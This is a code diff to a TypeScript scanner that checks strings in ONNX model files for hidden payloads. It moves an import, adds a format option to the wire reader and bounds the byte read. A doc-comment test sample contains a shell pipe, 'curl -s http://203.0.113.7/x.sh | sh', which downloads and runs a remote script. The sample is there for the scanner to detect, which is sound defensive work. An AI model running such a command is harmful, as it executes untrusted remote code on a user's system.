@@ -13,7 +13,7 @@ import { subSource } from "../../core/byte_source.ts";
 import type { ByteSource } from "../../core/byte_source.ts";
 import type { FindingReport, ScanContext } from "../../core/scanner.ts";
 import { checkString } from "../strings/checks.ts";
-import type { WireField, WireReader } from "./wire.ts";
+import type { WireField, WireReader } from "../protobuf/wire.ts";
 import type { OnnxOptions } from "./options.ts";
 
 /** Shorter strings hold no payload worth a scan (the smallest pickle that imports and calls is longer). */
@@ -31,10 +31,10 @@ const utf8 = new TextDecoder();
  * import { recordingContext } from "../../core/recording_context.ts";
  * import { DEFAULT_ONNX_OPTIONS } from "./options.ts";
  * import { inspectString, type StringWalk } from "./strings.ts";
- * import { WireReader } from "./wire.ts";
+ * import { WireReader } from "../protobuf/wire.ts";
  * const source = bytesSource(Uint8Array.of(0x0a, 3, 0x61, 0x62, 0x63)); // field 1: "abc"
  * const walk: StringWalk = {
- *   reader: new WireReader(source),
+ *   reader: new WireReader(source, { format: "onnx" }),
  *   source,
  *   ctx: recordingContext("model.onnx").ctx,
  *   strings: { inspected: 0 },
@@ -85,14 +85,14 @@ function mayBePayload(head: Uint8Array): boolean {
  * import { recordingContext } from "../../core/recording_context.ts";
  * import { DEFAULT_ONNX_OPTIONS } from "./options.ts";
  * import { inspectString, type StringWalk } from "./strings.ts";
- * import { WireReader } from "./wire.ts";
+ * import { WireReader } from "../protobuf/wire.ts";
  * // A message whose field 2 is a shell pipe from a raw IP address.
  * const text = new TextEncoder().encode("curl -s http://203.0.113.7/x.sh | sh");
  * const source = bytesSource(Uint8Array.of(0x12, text.length, ...text));
  * const { ctx, findings } = recordingContext("model.onnx");
  * const seen = new Set<string>();
  * const walk: StringWalk = {
- *   reader: new WireReader(source),
+ *   reader: new WireReader(source, { format: "onnx" }),
  *   source,
  *   ctx,
  *   strings: { inspected: 0 },
@@ -121,7 +121,7 @@ export async function inspectString(walk: StringWalk, field: WireField, keyPath:
     });
     return;
   }
-  const bytes = await walk.reader.bytes(field, maxStringBytes);
+  const bytes = await walk.reader.bytes(field.start, Math.min(field.end, field.start + maxStringBytes));
   await checkString(ctx, utf8.decode(bytes), {
     what: `The model's ${keyPath}`,
     position: field.start,
